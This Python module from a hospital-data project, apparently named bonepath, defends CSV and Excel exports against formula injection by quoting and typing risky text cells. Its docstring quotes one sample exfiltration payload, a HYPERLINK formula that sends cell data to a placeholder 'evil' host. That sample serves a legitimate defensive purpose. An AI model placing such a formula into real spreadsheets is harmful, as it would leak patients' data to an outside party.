"""Cells of the spreadsheet files bonepath writes (CSV and Excel), safe from formula injection.

A patient id, a hospital id or a department name comes from an import file, so it can hold
``=HYPERLINK("http://evil/?"&A1,"x")``: written as it is, Excel runs it as a formula when
the nurse opens the export (OWASP "CSV Injection"). Every writer of a CSV or an ``.xlsx``
file passes its cells through this module, the one place the defence is written:

* CSV (:func:`csv_cell`): a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or
  a carriage return (or their full-width forms ``＝ ＋ － ＠``, which spreadsheet programs
  in Chinese and Japanese locales also read as formula signs) gets a leading single quote,
  as the OWASP guidance prescribes; the quote shows in the cell. Numbers stay numbers. The
  import templates read such a cell back without the quote (:func:`from_csv_cell`).
* Excel (:func:`xlsx_value`): a text cell is written with the explicit string type, so it is
  never stored as a formula (or an error value such as ``#N/A``) and reads back unchanged;
  one that starts with a formula sign also gets Excel's own ``quotePrefix`` mark, so that
  editing the cell in Excel keeps it text. Characters that an ``.xlsx`` file cannot hold
  (the C0 controls other than tab and newline) are written as U+FFFD.

Dates and numbers are not text and pass through unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any, Final

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.cell.cell import WriteOnlyCell as _WriteOnlyCell

__all__ = ["FORMULA_SIGNS", "csv_cell", "csv_row", "from_csv_cell", "is_formula_like", "xlsx_value"]

FORMULA_SIGNS: Final = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
"""First characters that make a spreadsheet program read a text cell as a formula."""


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program would read ``text`` as a formula (or a DDE call)."""
    return text.startswith(FORMULA_SIGNS)


def csv_cell(value: Any) -> Any:
    """A CSV cell: text that starts with a formula sign is prefixed with ``'``; else as is."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def from_csv_cell(text: str) -> str:
    """The text of a CSV cell that :func:`csv_cell` wrote: the leading quote removed again."""
    if text.startswith("'") and is_formula_like(text[1:]):
        return text[1:]
    return text


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A row of :func:`csv_cell` cells, for ``csv.writer.writerow``."""
    return [csv_cell(value) for value in values]


def xlsx_value(cell: Cell | _WriteOnlyCell, value: Any) -> Cell | _WriteOnlyCell:
    """Put ``value`` in an openpyxl cell, text as a plain string cell (never a formula).

    openpyxl types a string that starts with ``=`` as a formula, and one such as ``#N/A`` as
    an error value, when it is assigned; the type is set back to text here. Returns the cell.
    """
    if not isinstance(value, str):
        cell.value = value
        return cell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    cell.value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    cell.data_type = "s"
    if is_formula_like(value):
        cell.quotePrefix = True
    return cell
